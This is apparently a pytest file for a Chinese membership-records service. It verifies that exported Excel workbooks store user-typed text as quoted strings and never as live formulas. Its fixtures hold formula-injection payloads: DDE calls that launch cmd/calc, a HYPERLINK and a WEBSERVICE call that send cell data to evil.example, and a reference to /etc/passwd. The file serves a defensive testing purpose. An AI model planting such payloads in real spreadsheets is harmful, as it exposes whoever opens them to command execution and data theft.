"""F34: what somebody typed is never calculated by whoever opens a workbook of ours."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import xlsxwriter

from partyservice.app import App
from partyservice.app.lists import Taken
from partyservice.desk.listing import PEOPLE
from partyservice.exchange.doctor import clean
from partyservice.exchange.importing import return_held
from partyservice.exchange.listing import Sheet, write_list
from partyservice.exchange.planning import Asked
from partyservice.exchange.reading import read_sheets
from partyservice.exchange.writing import Held, Part, Returned, write_returned, write_table
from partyservice.kernel.fields import Field
from partyservice.kernel.kinds import Kind
from tests.builders import somebody
from tests.faults.table import Told

BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", " =", "　=")
ENDINGS = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"张三")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://evil.example/")',
    'DDE("cmd";"/C calc";"x")',
    "'file:///etc/passwd'#$passwd.A1",
    "张三",
    '"',
)
TEXTS = tuple(beginning + ending for beginning in BEGINNINGS for ending in ENDINGS)
ODD = ("{=1+1}", "DDE", "%0a=1", "|calc", '"=1+1"', "'", "http://evil.example", "=" * 255)
ALL = (*TEXTS, *ODD)
Write = Callable[[Path, list[str]], object]


def _returned(path: Path, texts: list[str]) -> None:
    rows = [Held([text], ["不对"]) for text in texts]
    write_returned(path, [Returned(name="表", heading=[["姓名"]], rows=rows)])


def _roster(path: Path, texts: list[str]) -> None:
    rows = [[text] for text in texts]
    write_table(path, [Part(name="表", heading=["姓名"], widths=[9], rows=rows)])


def _list(path: Path, texts: list[str]) -> None:
    field = Field(key="person.name", label="姓名", kind=Kind(), width=9)
    rows = [[text] for text in texts]
    write_list(path, Sheet(title="=1+1", said="", fields=[field], rows=rows, foot="@SUM(1)"))


def inside(path: Path) -> str:
    with zipfile.ZipFile(path) as packed:
        names = [name for name in packed.namelist() if "sheets/sheet" in name]
        return "".join(packed.read(name).decode() for name in names)


def quoted(path: Path) -> int:
    """Return how many cells say that they stay texts when edited."""
    with zipfile.ZipFile(path) as packed:
        styles = packed.read("xl/styles.xml").decode().split("<cellXfs")[1]
    looks = re.findall(r"<xf [^>]*>", styles.split("</cellXfs>")[0])
    marked = {str(place) for place, look in enumerate(looks) if 'quotePrefix="1"' in look}
    return sum(look in marked for look in re.findall(r'<c r="\w+" s="(\d+)" t=', inside(path)))


@pytest.mark.parametrize("write", [_returned, _roster, _list])
def test_a_text_is_no_formula_and_comes_back_as_it_was(
    tmp_path: Path, tell: Told, write: Write
) -> None:
    path, raw = tmp_path / "a.xlsx", tmp_path / "raw.xlsx"
    write(path, list(ALL))
    with xlsxwriter.Workbook(raw) as made:
        sheet = made.add_worksheet()
        for row, text in enumerate(ALL):
            sheet.write(row, 0, text)

    (read,) = read_sheets(path)
    found = [row[0] for row in read.rows if row[0] in ALL]

    control = inside(raw).count("<f>")
    lost = len(ALL) - sum(text in found for text in ALL)
    tell(f"F34 formulas, {write.__name__[1:]}", len(ALL), lost, f"write(): {control} formulas")
    assert lost == 0
    assert "<f" not in inside(path)
    assert "hyperlink" not in inside(path)
    assert quoted(path) >= len(TEXTS)
    assert control > len(ENDINGS) // 2


def test_so_it_is_in_what_an_import_returns_and_cleans_and_in_a_list(
    app: App, tmp_path: Path
) -> None:
    heading = ["姓名", "性别", "民族", "出生日期", "党支部", "人员类别"]
    rows = [[text, "男", "汉族", "1980-01-01", "没有的支部", "正式党员"] for text in TEXTS[:20]]
    with xlsxwriter.Workbook(tmp_path / "a.xlsx") as made:
        sheet = made.add_worksheet()
        for number, cells in enumerate([heading, *rows]):
            for column, text in enumerate(cells):
                sheet.write_string(number, column, text)
    plan = app.imports.plan(tmp_path / "a.xlsx", Asked())
    assert return_held(plan, tmp_path / "back.xlsx")
    review = app.imports.open(tmp_path / "a.xlsx")
    review.asked = Asked()
    app.imports.judge(review)
    clean(review, tmp_path / "clean.xlsx")
    somebody(app, "欧阳甲", person__address="=HYPERLINK(1)")
    taken = Taken(title="人员", listing=PEOPLE, wanted=app.wanted(columns=("person.address",)))
    app.lists.save(taken, tmp_path / "list.xlsx")

    for name in ("back.xlsx", "clean.xlsx", "list.xlsx"):
        assert "<f" not in inside(tmp_path / name)
        assert quoted(tmp_path / name) >= 1
